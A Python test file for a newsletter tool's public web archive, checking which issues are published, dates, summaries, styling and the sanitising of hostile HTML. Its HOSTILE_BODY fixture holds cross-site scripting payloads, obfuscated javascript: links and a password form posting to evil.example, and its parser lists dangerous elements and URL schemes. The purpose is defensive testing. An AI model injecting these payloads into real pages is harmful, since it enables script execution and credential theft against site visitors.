"""The public archive on a running `serve`: what it publishes (/archive, each issue's page
and the Atom feed) and what it keeps out (issues sent to a private list, issues an editor
kept out), and the headers and markup of what it serves.
"""

import email
import email.policy
import html.parser
import os
import re
import sqlite3
import urllib.error
import urllib.request
import xml.etree.ElementTree

from test_cli import CommuniqueTestCase

ATOM = {"atom": "http://www.w3.org/2005/Atom"}

# A body from a hostile feed item or paste: every way markup could act that the sanitiser
# must take out.
HOSTILE_BODY = """<p>Visible words</p>
<script>alert('script')</script>
<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>
<img src=x onerror="alert('img')">
<img src="https://example.org/photo.png" alt="Photo" onload="alert('load')">
<a href="javascript:alert('a')">plain</a>
<a href="JaVaScRiPt:alert('b')">mixed case</a>
<a href="jav&#x09;ascript:alert('c')">entity tab</a>
<a href=" &#x0A;javascript:alert('d')">leading space</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>
<a href="https://example.org/kept" onmouseover="alert('e')">kept link</a>
<img src="data:image/svg+xml,<svg onload=alert(1)>">
<svg><script>alert('svg')</script></svg>
<form action="https://evil.example/steal"><input name="password"><button>Sign in</button></form>
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<iframe src="https://evil.example/"></iframe>
<object data="https://evil.example/x.swf"></object>
<div style="background:url(javascript:alert(1))"><b>unclosed <i>nested
<!-- <script>alert('comment')</script> -->
"""

# (The letter template's own <meta> elements name a charset and colour schemes; a <meta>
# with http-equiv, which can redirect, is looked for as an attribute.)
ACTIVE_ELEMENTS = {"script", "style", "form", "input", "button", "base", "iframe",
                   "object", "embed", "svg", "link", "frame", "template"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "srcset", "poster", "xlink:href"}
POLICY = ["default-src 'none'", "sandbox", "form-action 'none'", "base-uri 'none'",
          "frame-ancestors 'none'"]


class Markup(html.parser.HTMLParser):
    """What a browser would find in a page: elements, attributes and URLs."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements = []
        self.attributes = []  # (element, name, value)

    def handle_starttag(self, tag, attrs):
        self.elements.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    handle_startendtag = handle_starttag

    def problems(self):
        found = [f"<{tag}>" for tag in self.elements if tag in ACTIVE_ELEMENTS]
        for tag, name, value in self.attributes:
            url = re.sub(r"[\x00-\x20]", "", value).lower()
            if name.startswith("on") or name == "http-equiv":
                found.append(f"{tag} {name}")
            elif name in URL_ATTRIBUTES and url.startswith(("javascript:", "data:", "vbscript:")):
                found.append(f"{tag} {name}={value}")
        return found


def markup_of(page):
    parser = Markup()
    parser.feed(page)
    parser.close()
    return parser


class ArchiveTest(CommuniqueTestCase):
    def setUp(self):
        super().setUp()
        self.run_cli("lists", "create", "Public news")
        self.run_cli("lists", "create", "Members", "--private")
        people = self.write("people.csv", "email,name\nann@example.org,Ann\n")
        self.run_cli("import", "--list", "Public news", people)
        self.run_cli("import", "--list", "Members", people)

    def send_issue(self, subject, lists, *extra, body="Some news.\n", suffix=".md"):
        path = self.write(f"{subject}{suffix}", body)
        arguments = ["issues", "create", "--subject", subject, "--body", path, *extra]
        for name in lists:
            arguments += ["--list", name]
        issue = self.run_cli(*arguments).stdout.strip()
        raw = self.run_cli("render", issue, "--to", "ann@example.org").stdout
        message = email.message_from_string(raw, policy=email.policy.default)
        text = next(p for p in message.walk() if p.get_content_type() == "text/plain")
        path = f"/archive/{issue}-" + "-".join(subject.lower().split())
        link = re.search(r"View in your browser: https?://[^/]+(/archive/\S+)",
                         text.get_content())
        # Only a letter whose issue the archive shows links to its web version.
        if "--no-archive" in extra or "Members" in lists:
            self.assertIsNone(link, text.get_content())
            self.assertNotIn("/archive/", text.get_content())
        else:
            self.assertEqual(link.group(1), path)
        self.run_cli("send", issue)
        return issue, path

    def get(self, address, path):
        try:
            with urllib.request.urlopen(f"http://{address}{path}", timeout=20) as response:
                return response.status, response.headers, response.read().decode()
        except urllib.error.HTTPError as error:
            return error.code, error.headers, error.read().decode()

    def published(self, address):
        """The subjects in the index and in the feed."""
        status, _, index = self.get(address, "/archive")
        self.assertEqual(status, 200)
        status, _, feed = self.get(address, "/archive/feed.atom")
        self.assertEqual(status, 200)
        entries = xml.etree.ElementTree.fromstring(feed).findall("atom:entry/atom:title", ATOM)
        return index, sorted(entry.text for entry in entries)

    def test_only_issues_to_public_lists_left_in_the_archive_are_published(self):
        _, public_path = self.send_issue("Open letter", ["Public news"])
        _, private_path = self.send_issue("Members only", ["Members"])
        _, mixed_path = self.send_issue("Mixed audience", ["Public news", "Members"])
        kept, kept_path = self.send_issue("Kept back", ["Public news"], "--no-archive")
        self.assertIn("archive:   no", self.run_cli("issues", "show", kept).stdout)
        _, address = self.start_server()

        index, titles = self.published(address)
        self.assertEqual(titles, ["Open letter"])
        self.assertIn(public_path, index)
        for path, subject in ((private_path, "Members only"), (mixed_path, "Mixed audience"),
                              (kept_path, "Kept back")):
            self.assertNotIn(path, index)
            self.assertNotIn(subject, index)
            status, _, page = self.get(address, path)
            self.assertEqual(status, 404, path)
            self.assertNotIn(subject, page)
        status, _, page = self.get(address, public_path)
        self.assertEqual(status, 200)
        self.assertIn("Open letter", page)
        # The web version is nobody's letter: a subscribe link, no personal links, and no
        # link to itself.
        self.assertNotIn("View in your browser", page)
        self.assertNotIn("unsubscribe", page)
        self.assertRegex(page, r'<a href="[^"]*/subscribe"[^>]*>Subscribe</a>')

        # An editor puts one back and takes another out, after they went out.
        self.assertIn("may appear", self.run_cli("issues", "update", kept, "--archive").stdout)
        self.run_cli("issues", "update", public_path.split("/")[-1].split("-")[0],
                     "--no-archive")
        index, titles = self.published(address)
        self.assertEqual(titles, ["Kept back"])
        self.assertEqual(self.get(address, kept_path)[0], 200)
        self.assertEqual(self.get(address, public_path)[0], 404)
        # Neither flag is a usage error; an unknown issue is an error.
        self.assertEqual(self.run_cli("issues", "update", kept, check=False).returncode, 2)
        both = self.run_cli("issues", "update", kept, "--archive", "--no-archive", check=False)
        self.assertEqual(both.returncode, 2)
        self.assertIn("excludes", both.stderr)
        missing = self.run_cli("issues", "update", "999", "--archive", check=False)
        self.assertEqual(missing.returncode, 1)
        self.assertIn("there is no issue 999", missing.stderr)


    def test_the_index_and_the_web_version_show_an_issue_s_edition_date(self):
        _, dated_path = self.send_issue("Dated letter", ["Public news"], "--date", "2030-01-15")
        _, undated_path = self.send_issue("Undated letter", ["Public news"])
        _, address = self.start_server()

        status, _, index = self.get(address, "/archive")
        self.assertEqual(status, 200)
        dates = re.findall(r"<small>([^<]*)</small>", index)
        self.assertEqual(len(dates), 2, index)
        self.assertEqual(dates[1], "2030-01-15")  # newest first: the undated one is first
        self.assertRegex(dates[0], r"^\d{4}-\d{2}-\d{2}$")
        self.assertNotEqual(dates[0], "2030-01-15")
        status, _, page = self.get(address, dated_path)
        self.assertEqual(status, 200)
        self.assertIn("15 January 2030", page)
        status, _, page = self.get(address, undated_path)
        self.assertNotIn("January 2030", page)
        # The feed says when each entry last changed, not its edition.
        status, _, feed = self.get(address, "/archive/feed.atom")
        updated = xml.etree.ElementTree.fromstring(feed).findall("atom:entry/atom:updated", ATOM)
        self.assertEqual(len(updated), 2)
        self.assertFalse(any(entry.text.startswith("2030") for entry in updated), feed)

    def test_summaries_are_the_first_words_of_the_prose(self):
        body = ("## News\n\nTelephone conversation between the President and the Prime "
                "Minister of [Norway](https://example.org/no). The leaders discussed trade, energy "
                "and the Arctic.\n\n- trade\n- energy\n")
        issue, _ = self.send_issue("Weekly news", ["Public news"], body=body)
        expected = ("Telephone conversation between the President and the Prime Minister "
                    "of Norway. The leaders discussed trade, energy and the Arctic. trade energy")
        raw = self.run_cli("render", issue, "--to", "ann@example.org").stdout
        message = email.message_from_string(raw, policy=email.policy.default)
        letter = next(p for p in message.walk() if p.get_content_type() == "text/html")
        preheader = re.search(r'<div style="display:none[^"]*">([^<]*)</div>',
                              letter.get_content())
        self.assertEqual(preheader.group(1),
                         "Telephone conversation between the President and the Prime "
                         "Minister of Norway. The leaders discussed trade\u2026")
        _, address = self.start_server()
        _, _, index = self.get(address, "/archive")
        self.assertIn(expected, index)
        _, _, feed = self.get(address, "/archive/feed.atom")
        summaries = xml.etree.ElementTree.fromstring(feed).findall("atom:entry/atom:summary",
                                                                   ATOM)
        self.assertEqual([summary.text for summary in summaries], [expected])
        for text in (index, feed, preheader.group(1)):
            self.assertNotIn("----", text)
            self.assertNotIn("[1]", text)

    def check_hostile_page(self, page, headers):
        markup = markup_of(page)
        self.assertEqual(markup.problems(), [], page)
        for directive in POLICY:
            self.assertIn(directive, headers["Content-Security-Policy"])
        self.assertIn("Visible words", page)
        self.assertIn('<a href="https://example.org/kept">kept link</a>', page)
        self.assertIn('<img src="https://example.org/photo.png" alt="Photo">', page)
        self.assertIn("<b>unclosed <i>nested", page)
        self.assertNotIn("evil.example", page)
        self.assertNotIn("alert(", page)

    def test_a_hostile_html_body_is_stored_sent_and_served_without_anything_that_acts(self):
        issue, path = self.send_issue("Feed item", ["Public news"], "--format", "html",
                                      body=HOSTILE_BODY, suffix=".html")
        # Stored sanitised: what `issues show` (and the API) give is the safe body.
        stored = self.run_cli("issues", "show", issue).stdout
        self.assertIn("Visible words", stored)
        self.assertNotIn("<script", stored.lower())
        self.assertNotIn("javascript", stored.lower())
        self.assertNotIn("onerror", stored)
        # The letter carries the same markup.
        raw = self.run_cli("render", issue, "--to", "ann@example.org").stdout
        message = email.message_from_string(raw, policy=email.policy.default)
        letter = next(p for p in message.walk() if p.get_content_type() == "text/html")
        self.assertEqual(markup_of(letter.get_content()).problems(), [])
        self.assertNotIn("alert(", letter.get_content())
        _, address = self.start_server()
        status, headers, page = self.get(address, path)
        self.assertEqual(status, 200)
        self.check_hostile_page(page, headers)

    def test_a_body_stored_before_sanitising_is_sanitised_when_served(self):
        issue, path = self.send_issue("Old row", ["Public news"], "--format", "html",
                                      body="<p>placeholder</p>", suffix=".html")
        # A row written by an earlier version, which stored HTML as it came.
        with sqlite3.connect(os.path.join(self.data, "communique.db")) as db:
            db.execute("UPDATE issue_sections SET body = ? WHERE issue_id = ?",
                       (HOSTILE_BODY, int(issue)))
        db.close()
        _, address = self.start_server()
        status, headers, page = self.get(address, path)
        self.assertEqual(status, 200)
        self.check_hostile_page(page, headers)

    def test_the_index_is_styled_by_its_stylesheet_alone(self):
        self.send_issue("Styled issue", ["Public news"])
        _, address = self.start_server()
        status, headers, index = self.get(address, "/archive")
        self.assertEqual(status, 200)
        policy = headers["Content-Security-Policy"]
        self.assertIn("style-src 'self'", policy)
        self.assertNotIn("unsafe-inline", policy)
        markup = markup_of(index)
        self.assertNotIn("style", markup.elements, "a <style> element the policy blocks")
        inline = [(tag, value) for tag, name, value in markup.attributes if name == "style"]
        self.assertEqual(inline, [], "style attributes the policy blocks")
        # What the index's classes need is in the stylesheet it links.
        sheets = [value for tag, name, value in markup.attributes
                  if tag == "link" and name == "href"]
        self.assertEqual(sheets, ["/assets/public.css"])
        status, _, css = self.get(address, sheets[0])
        self.assertEqual(status, 200)
        classes = {value for _, name, value in markup.attributes if name == "class"}
        self.assertIn("issues", classes)
        for name in classes:
            self.assertIn(f".{name}", css)
        self.assertIn("ul.issues{list-style:none;padding:0}", css)


if __name__ == "__main__":
    import unittest
    unittest.main()
